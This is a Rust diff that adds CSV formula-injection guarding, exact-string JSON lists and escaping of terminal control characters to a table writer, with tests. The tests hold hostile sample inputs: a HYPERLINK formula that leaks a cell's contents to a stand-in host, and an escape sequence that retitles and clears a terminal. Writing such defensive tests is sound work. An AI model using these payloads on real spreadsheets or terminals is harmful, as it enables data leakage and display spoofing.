@@ -4,8 +4,16 @@
 //! [`RowSink`]. Floats are written in the shortest form that reads back to the same `f64`
 //! (`ryu`), so the same input gives the same bytes; a zero is never written `-0` in any format.
 //! A missing value is empty in CSV and tables and `null` in JSON; a list is written with its
-//! separator in CSV and tables and as a JSON array.
+//! separator in CSV and tables and as a JSON array of its items as strings, exactly as given.
+//!
+//! CSV is spreadsheet-safe by default ([`CsvCells::Guarded`], OWASP's rule for CSV injection): a
+//! text cell (the header's too) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+//! and is not a number gets a leading `'`, so that a spreadsheet shows it as text instead of
+//! running it as a formula (`=HYPERLINK(…)` is written `'=HYPERLINK(…)`, `-12.5` stays).
+//! [`CsvCells::Raw`] writes the bytes as they are. [`guard_csv_cell`] is the one rule.
+//! Text in `--format table` shows control characters escaped (`\u{1b}`), never raw.
 
+use std::borrow::Cow;
 use std::fmt;
 use std::io::{self, Write};
 use std::str::FromStr;
@@ -21,9 +29,9 @@ pub enum Cell<'a> {
     Text(&'a str),
     /// No value: empty in CSV and tables, `null` in JSON.
     Missing,
-    /// A list whose items are separated by the char (as written in CSV and tables); a JSON array,
-    /// an item that is a whole number written as a number.
-    List(&'a str, char),
+    /// A list: its items, joined by the char in CSV and tables; in JSON an array of the items as
+    /// strings, exactly as given (`U S` and `007` stay what they are).
+    List(&'a [String], char),
 }
 
 /// Receives the rows of a table, cell by cell.
@@ -56,21 +64,14 @@ pub enum Value {
     Text(String),
     /// No value.
     Missing,
-    /// A list: items joined by the char.
-    List(String, char),
+    /// A list: its items, and the char that joins them in CSV and tables.
+    List(Vec<String>, char),
 }
 
 impl Value {
-    /// A list of items joined by `sep`.
+    /// A list of items, joined by `sep` in CSV and tables.
     pub fn list<T: fmt::Display>(items: impl IntoIterator<Item = T>, sep: char) -> Self {
-        let mut s = String::new();
-        for (i, item) in items.into_iter().enumerate() {
-            if i > 0 {
-                s.push(sep);
-            }
-            s.push_str(&item.to_string());
-        }
-        Value::List(s, sep)
+        Value::List(items.into_iter().map(|item| item.to_string()).collect(), sep)
     }
 }
 
@@ -132,7 +133,7 @@ impl Table for OwnedTable {
                     Value::Float(f) => Cell::Float(*f),
                     Value::Text(t) => Cell::Text(t),
                     Value::Missing => Cell::Missing,
-                    Value::List(t, sep) => Cell::List(t, *sep),
+                    Value::List(items, sep) => Cell::List(items, *sep),
                 })?;
             }
             sink.end_row()?;
@@ -181,17 +182,83 @@ impl FromStr for OutputFormat {
     }
 }
 
-/// Writes `table` to `out` in `format`.
+/// How CSV text cells are written.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum CsvCells {
+    /// Spreadsheet-safe (the default): a text cell a spreadsheet would run as a formula gets a
+    /// leading `'` ([`guard_csv_cell`]).
+    #[default]
+    Guarded,
+    /// The bytes as they are (`--raw-csv`).
+    Raw,
+}
+
+/// Whether `text` is a plain decimal number (`-12`, `+3.5`, `-1e-9`, `.5`): a spreadsheet reads
+/// it as a number, so it needs no guard. `inf` and `nan` are not numbers here.
+fn is_number(text: &str) -> bool {
+    let b = text.as_bytes();
+    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
+    let digits = |i: &mut usize| {
+        let start = *i;
+        while b.get(*i).is_some_and(u8::is_ascii_digit) {
+            *i += 1;
+        }
+        *i - start
+    };
+    let mut mantissa = digits(&mut i);
+    if b.get(i) == Some(&b'.') {
+        i += 1;
+        mantissa += digits(&mut i);
+    }
+    if mantissa == 0 {
+        return false;
+    }
+    if matches!(b.get(i), Some(b'e' | b'E')) {
+        i += 1;
+        i += usize::from(matches!(b.get(i), Some(b'+' | b'-')));
+        if digits(&mut i) == 0 {
+            return false;
+        }
+    }
+    i == b.len()
+}
+
+/// The spreadsheet-safe form of a CSV text cell (OWASP's rule for CSV injection): a cell that
+/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return and is not a number gets a leading
+/// `'`; any other cell is returned as it is.
+pub fn guard_csv_cell(text: &str) -> Cow<'_, str> {
+    match text.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_number(text) => Cow::Owned(format!("'{text}")),
+        _ => Cow::Borrowed(text),
+    }
+}
+
+/// Writes `table` to `out` in `format`, CSV spreadsheet-safe ([`CsvCells::Guarded`]).
 ///
 /// # Errors
 /// I/O errors of `out`.
 pub fn write_table(table: &dyn Table, format: OutputFormat, out: &mut dyn Write) -> io::Result<()> {
+    write_table_with(table, format, CsvCells::Guarded, out)
+}
+
+/// Writes `table` to `out` in `format`, CSV text cells as `cells` says.
+///
+/// # Errors
+/// I/O errors of `out`.
+pub fn write_table_with(
+    table: &dyn Table,
+    format: OutputFormat,
+    cells: CsvCells,
+    out: &mut dyn Write,
+) -> io::Result<()> {
     let columns = table.columns();
     match format {
         OutputFormat::Csv => {
             let mut sink = CsvSink {
                 out,
                 buf: Vec::with_capacity(CsvSink::FLUSH_AT + 4096),
+                cells,
+                joined: String::new(),
                 first: true,
                 floats: ryu::Buffer::new(),
                 ints: itoa::Buffer::new(),
@@ -248,6 +315,9 @@ pub fn format_fixed(v: f64, digits: usize) -> String {
 struct CsvSink<'w> {
     out: &'w mut dyn Write,
     buf: Vec<u8>,
+    cells: CsvCells,
+    /// A list's items joined, reused from cell to cell.
+    joined: String,
     first: bool,
     floats: ryu::Buffer,
     ints: itoa::Buffer,
@@ -255,6 +325,51 @@ struct CsvSink<'w> {
 
 impl CsvSink<'_> {
     const FLUSH_AT: usize = 1 << 16;
+
+    /// Writes a text cell: guarded unless raw, quoted when needed.
+    fn text(&mut self, t: &str) {
+        let t = match self.cells {
+            CsvCells::Guarded => guard_csv_cell(t),
+            CsvCells::Raw => Cow::Borrowed(t),
+        };
+        if t.contains([',', '"', '\n', '\r']) {
+            self.buf.push(b'"');
+            self.buf.extend_from_slice(t.replace('"', "\"\"").as_bytes());
+            self.buf.push(b'"');
+        } else {
+            self.buf.extend_from_slice(t.as_bytes());
+        }
+    }
+}
+
+/// `items` joined by `sep` into `out` (cleared first).
+fn join_into(out: &mut String, items: &[String], sep: char) {
+    out.clear();
+    for (i, item) in items.iter().enumerate() {
+        if i > 0 {
+            out.push(sep);
+        }
+        out.push_str(item);
+    }
+}
+
+/// Text for a terminal: control characters (an escape sequence's ESC, a bell, a newline) and
+/// Unicode's bidirectional overrides shown escaped (`\u{1b}`), so that data cannot move the
+/// cursor, retitle the window or reorder what is shown.
+pub fn terminal_safe(text: &str) -> Cow<'_, str> {
+    let unsafe_char = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    if !text.chars().any(unsafe_char) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if unsafe_char(c) {
+            out.push_str(&c.escape_unicode().to_string());
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
 }
 
 impl RowSink for CsvSink<'_> {
@@ -267,12 +382,13 @@ impl RowSink for CsvSink<'_> {
             Cell::Int(i) => self.buf.extend_from_slice(self.ints.format(i).as_bytes()),
             Cell::Float(f) => self.buf.extend_from_slice(format_float(f, &mut self.floats).as_bytes()),
             Cell::Missing => {}
-            Cell::Text(t) | Cell::List(t, _) if t.contains([',', '"', '\n', '\r']) => {
-                self.buf.push(b'"');
-                self.buf.extend_from_slice(t.replace('"', "\"\"").as_bytes());
-                self.buf.push(b'"');
+            Cell::Text(t) => self.text(t),
+            Cell::List(items, sep) => {
+                let mut joined = std::mem::take(&mut self.joined);
+                join_into(&mut joined, items, sep);
+                self.text(&joined);
+                self.joined = joined;
             }
-            Cell::Text(t) | Cell::List(t, _) => self.buf.extend_from_slice(t.as_bytes()),
         }
         Ok(())
     }
@@ -317,13 +433,8 @@ impl RowSink for JsonSink<'_, '_> {
                 let quoted = serde_json::to_string(t).map_err(io::Error::other)?;
                 self.out.write_all(quoted.as_bytes())
             }
-            Cell::List(t, sep) => {
-                let items: Vec<serde_json::Value> = t
-                    .split(sep)
-                    .filter(|s| !s.is_empty())
-                    .map(|s| s.parse::<i64>().map_or_else(|_| serde_json::Value::from(s), serde_json::Value::from))
-                    .collect();
-                let text = serde_json::to_string(&items).map_err(io::Error::other)?;
+            Cell::List(items, _) => {
+                let text = serde_json::to_string(items).map_err(io::Error::other)?;
                 self.out.write_all(text.as_bytes())
             }
         }
@@ -346,7 +457,12 @@ impl RowSink for TextSink {
         self.current.push(match cell {
             Cell::Int(i) => i.to_string(),
             Cell::Float(f) => format_fixed(f, 6),
-            Cell::Text(t) | Cell::List(t, _) => t.to_string(),
+            Cell::Text(t) => terminal_safe(t).into_owned(),
+            Cell::List(items, sep) => {
+                let mut joined = String::new();
+                join_into(&mut joined, items, sep);
+                terminal_safe(&joined).into_owned()
+            }
             Cell::Missing => String::new(),
         });
         Ok(())
@@ -432,8 +548,8 @@ mod tests {
             sink.cell(Cell::Float(-0.0))?;
             sink.cell(Cell::Float(-1e-9))?;
             sink.cell(Cell::Missing)?;
-            sink.cell(Cell::List("1485;2015", ';'))?;
-            sink.cell(Cell::List("UKG RUS", ' '))?;
+            sink.cell(Cell::List(&["1485".to_string(), "2015".to_string()], ';'))?;
+            sink.cell(Cell::List(&["UKG".to_string(), "RUS".to_string()], ' '))?;
             sink.end_row()
         }
     }
@@ -448,7 +564,7 @@ mod tests {
         assert_eq!(render(OutputFormat::Csv), "zero,tiny,missing,ids,names\n0.0,-1e-9,,1485;2015,UKG RUS\n");
         assert_eq!(
             render(OutputFormat::Json),
-            "[\n  {\"zero\": 0.0, \"tiny\": -1e-9, \"missing\": null, \"ids\": [1485,2015], \"names\": [\"UKG\",\"RUS\"]}\n]\n"
+            "[\n  {\"zero\": 0.0, \"tiny\": -1e-9, \"missing\": null, \"ids\": [\"1485\",\"2015\"], \"names\": [\"UKG\",\"RUS\"]}\n]\n"
         );
         assert_eq!(
             render(OutputFormat::Table),
@@ -462,5 +578,75 @@ mod tests {
     #[test]
     fn text_table_aligns_columns() {
         assert_eq!(render(OutputFormat::Table), "year  name  x\n1816  a,b   0.300000\n1817  c     0.000000\n");
+    }
+
+    /// Issue 25: OWASP's rule, numbers left alone, `--raw-csv` as it is, headers guarded too.
+    #[test]
+    fn issue25_csv_cells_that_a_spreadsheet_would_run_get_a_quote() {
+        for (cell, safe) in [
+            ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+            ("@US", "'@US"),
+            ("+cmd", "'+cmd"),
+            ("-2+3", "'-2+3"),
+            ("-", "'-"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("-inf", "'-inf"),
+            ("-1e", "'-1e"),
+            ("-12.5", "-12.5"),
+            ("+3", "+3"),
+            ("-1e-9", "-1e-9"),
+            ("-.5", "-.5"),
+            ("USA", "USA"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(guard_csv_cell(cell), safe, "{cell:?}");
+        }
+        struct Hostile;
+        impl Table for Hostile {
+            fn columns(&self) -> Vec<&'static str> {
+                vec!["=name", "list"]
+            }
+            fn write_rows(&self, sink: &mut dyn RowSink) -> io::Result<()> {
+                sink.cell(Cell::Text("=1+1,\"x\""))?;
+                sink.cell(Cell::List(&["@US".to_string(), "RUS".to_string()], ' '))?;
+                sink.end_row()
+            }
+        }
+        let render = |cells| {
+            let mut v = Vec::new();
+            write_table_with(&Hostile, OutputFormat::Csv, cells, &mut v).unwrap();
+            String::from_utf8(v).unwrap()
+        };
+        assert_eq!(render(CsvCells::Guarded), "'=name,list\n\"'=1+1,\"\"x\"\"\",'@US RUS\n");
+        assert_eq!(render(CsvCells::Raw), "=name,list\n\"=1+1,\"\"x\"\"\",@US RUS\n");
+        // JSON is not a spreadsheet format: values as they are.
+        let mut v = Vec::new();
+        write_table(&Hostile, OutputFormat::Json, &mut v).unwrap();
+        assert!(String::from_utf8(v).unwrap().contains(r#""list": ["@US","RUS"]"#));
+    }
+
+    /// Issue 25: list items are written as the strings they are, never re-split or re-typed.
+    #[test]
+    fn issue25_list_items_keep_their_spaces_and_leading_zeros() {
+        let mut t = OwnedTable::new(&["partners"]);
+        t.push(vec![Value::list(["U S", "007"], ' ')]);
+        let mut v = Vec::new();
+        write_table(&t, OutputFormat::Json, &mut v).unwrap();
+        let back: serde_json::Value = serde_json::from_slice(&v).unwrap();
+        assert_eq!(back[0]["partners"], serde_json::json!(["U S", "007"]));
+    }
+
+    /// Issue 25: terminal escape sequences in data are shown escaped in `--format table`.
+    #[test]
+    fn issue25_tables_show_control_characters_escaped() {
+        let mut t = OwnedTable::new(&["name"]);
+        t.push(vec!["\u{1b}]0;owned\u{7}\u{1b}[2J".into()]);
+        let mut v = Vec::new();
+        write_table(&t, OutputFormat::Table, &mut v).unwrap();
+        let text = String::from_utf8(v).unwrap();
+        assert_eq!(text, "name\n\\u{1b}]0;owned\\u{7}\\u{1b}[2J\n");
+        assert!(!text.contains('\u{1b}'));
     }
 }
